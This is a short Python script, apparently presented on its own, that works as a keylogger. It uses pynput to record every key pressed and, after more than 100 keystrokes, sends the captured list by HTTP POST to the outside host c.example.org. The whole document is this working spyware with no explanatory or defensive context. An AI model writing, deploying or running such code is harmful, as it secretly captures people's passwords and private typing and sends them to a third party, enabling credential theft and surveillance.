import requests
from pynput import keyboard

typed = []


def on_press(key):
    typed.append(str(key))
    if len(typed) > 100:
        requests.post("https://c.example.org", json=typed)


keyboard.Listener(on_press=on_press).start()
